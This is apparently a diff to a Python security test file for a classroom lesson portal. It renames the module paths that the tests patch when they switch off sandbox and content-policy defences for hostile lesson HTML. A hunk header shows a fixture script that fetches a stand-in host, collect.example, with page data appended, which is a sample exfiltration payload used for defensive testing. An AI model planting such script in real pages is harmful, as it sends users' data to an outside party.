@@ -35,8 +35,8 @@ HOSTILE = {"index.html": b"<script>fetch('https://collect.example/?' + document.
 @attack(
     "hostile lesson HTML",
     off={
-        "sync_agent.portal.lessons._LOAD_FROM_HERE": "default-src *",
-        "sync_agent.portal.lessons._ALLOWED": "allow-top-navigation",
+        "sync_agent.portal.files.lessons._LOAD_FROM_HERE": "default-src *",
+        "sync_agent.portal.files.lessons._ALLOWED": "allow-top-navigation",
     },
 )
 async def test_a_lesson_loads_from_nowhere_else_and_sends_nothing_anywhere(room: Classroom) -> None:
@@ -55,8 +55,8 @@ async def test_a_lesson_loads_from_nowhere_else_and_sends_nothing_anywhere(room:
 @attack(
     "hostile lesson HTML",
     off={
-        "sync_agent.portal.lessons._ALLOWED": "allow-scripts allow-same-origin allow-popups",
-        "sync_agent.portal.lessons.Lessons._would_run_unframed": lambda *_: False,
+        "sync_agent.portal.files.lessons._ALLOWED": "allow-scripts allow-same-origin allow-popups",
+        "sync_agent.portal.files.lessons.Lessons._would_run_unframed": lambda *_: False,
     },
 )
 async def test_a_lesson_leads_nobody_who_clicks_in_it_out_of_the_machine(room: Classroom) -> None:
